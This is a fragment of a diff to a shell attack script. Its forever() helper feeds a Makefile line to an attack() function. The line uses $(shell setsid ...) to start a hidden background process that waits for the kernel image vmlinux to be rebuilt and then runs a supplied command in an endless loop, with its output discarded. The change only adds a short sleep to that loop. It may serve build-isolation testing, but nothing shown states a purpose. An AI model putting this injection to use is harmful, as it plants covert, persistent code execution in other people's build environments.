@@ -46,7 +46,7 @@ attack() {
 forever() {
 	attack "$1" <<EOF
 x := \$(shell setsid sh -c 'i=\$\$(stat -c %i vmlinux); while [ "\$\$(stat -c %i vmlinux)" = \$\$i ]; do \
-	sleep 0.02; done; while :; do $2; done' >/dev/null 2>&1 &)
+	sleep 0.02; done; while :; do $2; sleep 0.02; done' >/dev/null 2>&1 &)
 EOF
 }
 
